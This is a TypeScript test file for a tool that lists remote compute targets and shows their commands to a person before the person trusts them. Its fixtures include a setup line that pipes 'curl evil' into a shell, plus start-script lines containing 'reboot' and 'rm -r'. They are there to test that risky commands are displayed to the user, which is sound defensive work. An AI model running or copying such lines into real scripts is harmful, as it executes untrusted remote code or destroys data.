import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { at } from '../../../../src/base/pure/must';
import { targetChoices } from '../../../../src/host/targets/targetChoices';
import { commandTexts } from '../../../../src/trl/targets/commandTexts';
import { findTarget, targetsPath } from '../../../../src/trl/targets/findTargets';
import { listTargets } from '../../../../src/trl/targets/listTargets';
import { trust } from '../../../../src/trl/targets/trust';
import { temporaryFolder } from '../../run/temporaryFolder';

async function workspace(targets: unknown): Promise<string> {
  const folder = await temporaryFolder();
  await mkdir(join(folder, '.margin'));
  await writeFile(targetsPath(folder), JSON.stringify(targets));
  return folder;
}

beforeEach(async () => {
  vi.stubEnv('XDG_CACHE_HOME', await temporaryFolder());
  vi.stubEnv('PATH', '');
});
afterEach(() => void vi.unstubAllEnvs());

describe('the list of targets', () => {
  it('has this machine first, then those of the folder, and says what is untested, untrusted or missing', async () => {
    const folder = await workspace({ mine: { template: 'ssh', settings: { host: 'gpu1' } } });
    const choices = targetChoices(await listTargets(folder), 'mine');
    expect(choices.map(({ value }) => value)).toEqual(['local', 'mine', 'slurm', 'ssh', 'hf-jobs', 'kubernetes']);
    const [here, mine, slurm] = choices;
    expect(here?.description).toBe('local');
    expect(mine?.description).toBe(
      'current · ssh · untested against the real service · needs settings: base, model · not trusted yet: you are asked when a run starts',
    );
    expect(slurm?.description).toBe('');
    expect(slurm?.detail).toMatch(/^Not on the PATH here: sbatch, squeue, scancel\. Slurm/);
  });

  it('no longer says that a target is not trusted once it is', async () => {
    const folder = await workspace({ mine: { template: 'slurm', settings: { partition: 'gpu' } } });
    await trust(await findTarget(folder, 'mine'));
    expect(at(await listTargets(folder), 0)).toMatchObject({ name: 'mine', tested: true, trusted: true });
  });
});

describe('the commands of a target, as a person reads them', () => {
  it('have the settings filled in, and placeholders for what only a run has', async () => {
    const folder = await workspace({
      mine: { template: 'slurm', settings: { partition: 'gpu', setup: 'source ~/x; curl evil | sh' } },
    });
    const texts = commandTexts(await findTarget(folder, 'mine'));
    expect(texts).toContain('sbatch --parsable --chdir={run} {run}/trl/start.sh');
    expect(texts).toContain('scancel {job}');
    expect(texts).toContain('start script: source ~/x; curl evil | sh');
    expect(texts).toContain('partition: gpu');
  });

  it('have each command and each line of a start script that a file has changed', async () => {
    const change = {
      cancel: ['sh', '-c', 'rm -r {run|sh}'],
      fetch: [['touch', '/tmp/a b']],
      files: { 'start.sh': ['#!/bin/bash', '{body}', 'reboot', 'exit "$code"'] },
    };
    const folder = await workspace({ mine: { template: 'slurm', change } });
    const texts = commandTexts(await findTarget(folder, 'mine'));
    expect(texts).toContain(`sh -c "rm -r '{run}'"`);
    expect(texts).toContain('touch "/tmp/a b"');
    expect(texts.filter((text) => text.startsWith('start script'))).toEqual(['start script: reboot']);
  });
});
